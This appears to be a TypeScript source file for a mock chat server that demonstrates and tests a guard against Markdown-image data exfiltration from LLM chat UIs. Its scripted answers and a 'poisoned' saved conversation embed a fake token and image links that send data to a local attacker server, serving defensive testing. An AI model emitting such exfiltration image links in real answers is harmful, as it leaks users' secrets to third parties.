/**
 * The demo's routes on the mock chat server (issue 4 "Demo and tests"):
 *
 * - `GET /chat`: a chat page that renders answers as Markdown (images included) and
 *   sends the whole conversation on every turn, like OpenAI-compatible UIs do;
 *   `GET /chat?chat=<id>` reloads a saved conversation.
 * - `GET /sdk/openai`, `GET /sdk/anthropic`: pages built on the official browser clients
 *   (`openai`, `@anthropic-ai/sdk`), bundled on first request with esbuild.
 * - `POST /demo/v1/chat/completions` (OpenAI SSE) and `POST /demo/v1/messages` (Anthropic
 *   SSE): the scripted attacks of demo-attacks.ts, with the exfiltration image pointing
 *   at the attacker server. Every request body received is recorded (`received()`), so
 *   tests can check what left the browser.
 * - `GET /api/v1/chats/<id>`: a saved conversation in Open WebUI's shape whose history
 *   holds a secret and an exfiltration image (a poisoned history reload).
 * - `GET /vendor/marked.js`: the Markdown renderer the chat page imports.
 */
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { asScripted, demoAnswer, EXFIL_DATA } from './demo-attacks.ts';
import { byteChunks, fakeGithubToken } from './scripted-answers.ts';
import { anthropicSse, openAiChatSse } from './wire-answers.ts';
import { readBody } from './request-body.ts';

const here = dirname(fileURLToPath(import.meta.url));
const require = createRequire(import.meta.url);
const CHAT_HTML = readFileSync(join(here, 'chat.html'), 'utf8');
const SDK_HTML = readFileSync(join(here, 'sdk', 'sdk-page.html'), 'utf8');
const MAX_BODY_BYTES = 256 * 1024;
const WIRE_CHUNK_BYTES = 96;

/** The saved conversation's id (a uuid, as Open WebUI's are). */
export const SAVED_CHAT_ID = '6f1c2d3e-4b5a-4c6d-8e7f-0a1b2c3d4e5f';
/** Issue 5: a saved conversation whose answer carries a seed 001-style labelled chain. */
export const LABELLED_CHAT_ID = '0b7e2f4a-9c1d-4e3b-8a5f-6d2c1e0f9a8b';
/** Its answer: two labelled comments, so projection keeps only the first, cut at its end. */
export const LABELLED_ANSWER =
  '好的～屏幕搭话：窗外的晚霞把整面墙都染成了橘色。屏幕搭话：桌上那杯咖啡好像已经凉了，记得喝掉。';

export interface ReceivedRequest {
  route: string;
  body: string;
}

export interface DemoRoutes {
  /** Handles the request when it is a demo route; false otherwise. */
  handle(req: IncomingMessage, res: ServerResponse, url: URL): boolean;
  /** Request bodies received on the demo's model endpoints, oldest first (last 100). */
  received(): ReceivedRequest[];
}

export interface DemoRouteOptions {
  /** The attacker's origin (attacker-server.ts), e.g. `http://localhost:40125`. */
  attackerUrl: string;
  chunkDelayMs: number;
}

const SDK_PACKAGES: Record<string, string> = {
  openai: 'openai',
  anthropic: '@anthropic-ai/sdk',
};

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

function pageCsp(nonce: string | undefined): string {
  return [
    "default-src 'self'",
    nonce ? `script-src 'self' 'nonce-${nonce}'` : "script-src 'self'",
    "style-src 'self' 'unsafe-inline'",
    // Images from anywhere, as chat UIs allow: the exfiltration path is real here,
    // so the attacker's hit count shows what the guard prevents.
    'img-src * data:',
    "connect-src 'self'",
    "base-uri 'none'",
  ].join('; ');
}

function send(res: ServerResponse, status: number, type: string, body: string, csp?: string) {
  const headers: Record<string, string | number> = {
    'content-type': type,
    'content-length': Buffer.byteLength(body),
    'cache-control': 'no-store',
  };
  if (csp) headers['content-security-policy'] = csp;
  res.writeHead(status, headers).end(body);
}

/** The last user message's text of an OpenAI- or Anthropic-shaped body. */
function lastUserText(body: string): string {
  const parsed = JSON.parse(body) as { messages?: { role?: string; content?: unknown }[] };
  const users = (parsed.messages ?? []).filter((m) => m.role === 'user');
  const content = users.at(-1)?.content;
  if (typeof content === 'string') return content;
  if (Array.isArray(content)) {
    return content
      .map((part: { text?: unknown }) => (typeof part.text === 'string' ? part.text : ''))
      .join('');
  }
  return '';
}

/** Open WebUI's `GET /api/v1/chats/{id}` document: a poisoned earlier answer. */
function savedChat(attackerUrl: string): string {
  const token = fakeGithubToken(91);
  const image = `${attackerUrl}/history.png?d=${encodeURIComponent(EXFIL_DATA)}`;
  const messages = [
    { id: 'm1', role: 'user', content: 'Summarise the shared notes, please.' },
    {
      id: 'm2',
      role: 'assistant',
      content: `The notes mention the token \`${token}\` and a chart:\n\n![chart](${image})`,
    },
  ];
  return JSON.stringify({
    id: SAVED_CHAT_ID,
    title: 'Shared notes',
    chat: {
      messages,
      history: {
        currentId: 'm2',
        messages: Object.fromEntries(messages.map((m) => [m.id, m])),
      },
    },
  });
}

export function createDemoRoutes(options: DemoRouteOptions): DemoRoutes {
  const received: ReceivedRequest[] = [];
  const bundles = new Map<string, Promise<string>>();

  const bundle = (sdk: string): Promise<string> => {
    let pending = bundles.get(sdk);
    if (!pending) {
      pending = import('esbuild').then(async (esbuild) => {
        const result = await esbuild.build({
          entryPoints: [join(here, 'sdk', `${sdk}-page.ts`)],
          bundle: true,
          write: false,
          format: 'esm',
          platform: 'browser',
          target: 'es2022',
          logLevel: 'silent',
        });
        return result.outputFiles[0]!.text;
      });
      bundles.set(sdk, pending);
    }
    return pending;
  };

  const stream = async (req: IncomingMessage, res: ServerResponse, route: string) => {
    const body = await readBody(req, MAX_BODY_BYTES);
    received.push({ route, body });
    if (received.length > 100) received.shift();
    const answer = asScripted(demoAnswer(lastUserText(body), options.attackerUrl));
    const text = route.endsWith('/messages') ? anthropicSse(answer) : openAiChatSse(answer);
    res.writeHead(200, {
      'content-type': 'text/event-stream; charset=utf-8',
      'cache-control': 'no-cache',
      'x-mock-request-id': `demo-${received.length}`,
    });
    for (const chunk of byteChunks(text, WIRE_CHUNK_BYTES)) {
      if (res.destroyed) return;
      res.write(chunk);
      await sleep(options.chunkDelayMs);
    }
    res.end();
  };

  const handle = (req: IncomingMessage, res: ServerResponse, url: URL): boolean => {
    const route = `${req.method} ${url.pathname}`;
    if (route === 'GET /chat') {
      const nonce = randomBytes(16).toString('base64');
      send(
        res,
        200,
        'text/html; charset=utf-8',
        CHAT_HTML.replaceAll('{{nonce}}', nonce),
        pageCsp(nonce),
      );
      return true;
    }
    if (route === 'GET /vendor/marked.js') {
      const file = require.resolve('marked').replace(/[^/]+$/, 'marked.esm.js');
      send(res, 200, 'text/javascript; charset=utf-8', readFileSync(file, 'utf8'));
      return true;
    }
    const sdkPage = /^GET \/sdk\/(openai|anthropic)$/.exec(route);
    if (sdkPage) {
      const sdk = sdkPage[1]!;
      const html = SDK_HTML.replaceAll('{{sdk}}', sdk).replaceAll(
        '{{package}}',
        SDK_PACKAGES[sdk]!,
      );
      send(res, 200, 'text/html; charset=utf-8', html, pageCsp(undefined));
      return true;
    }
    const sdkScript = /^GET \/sdk\/(openai|anthropic)\.js$/.exec(route);
    if (sdkScript) {
      bundle(sdkScript[1]!).then(
        (code) => send(res, 200, 'text/javascript; charset=utf-8', code),
        (error: unknown) =>
          send(res, 500, 'text/plain; charset=utf-8', `bundle failed: ${String(error)}`),
      );
      return true;
    }
    if (route === 'POST /demo/v1/chat/completions' || route === 'POST /demo/v1/messages') {
      stream(req, res, route).catch((error: unknown) => {
        if (!res.headersSent) send(res, 400, 'text/plain; charset=utf-8', String(error));
        else res.destroy();
      });
      return true;
    }
    if (route === `GET /api/v1/chats/${LABELLED_CHAT_ID}`) {
      const messages = [
        { id: 'l1', role: 'user', content: '看看我的屏幕，陪我聊聊。' },
        { id: 'l2', role: 'assistant', content: LABELLED_ANSWER },
      ];
      send(res, 200, 'application/json; charset=utf-8', JSON.stringify({ chat: { messages } }));
      return true;
    }
    if (route === `GET /api/v1/chats/${SAVED_CHAT_ID}`) {
      send(res, 200, 'application/json; charset=utf-8', savedChat(options.attackerUrl));
      return true;
    }
    return false;
  };

  return { handle, received: () => [...received] };
}
